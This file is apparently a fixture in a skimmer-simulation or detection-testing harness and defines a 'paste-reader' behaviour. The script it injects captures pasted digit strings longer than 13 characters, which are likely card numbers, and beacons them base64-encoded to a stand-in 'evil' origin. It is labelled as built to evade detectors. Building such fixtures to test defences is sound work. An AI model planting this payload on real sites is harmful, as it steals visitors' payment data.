import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'paste-reader',
  why: 'Reads what is pasted, never a field: a visit that types sees only that it listens.',
  covers: ['reading: change and keys', 'evade: detectors'],
  base: 'direct',
  habit: 'pastes',
  install: (site) =>
    site.append(js`addEventListener('paste', function (e) {
  var t = e.clipboardData.getData('text').replace(/\D/g, '');
  if (t.length > 13) new Image().src = '${site.origins.evil}/cb.gif?d=' + encodeURIComponent(btoa(t));
}, true);`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
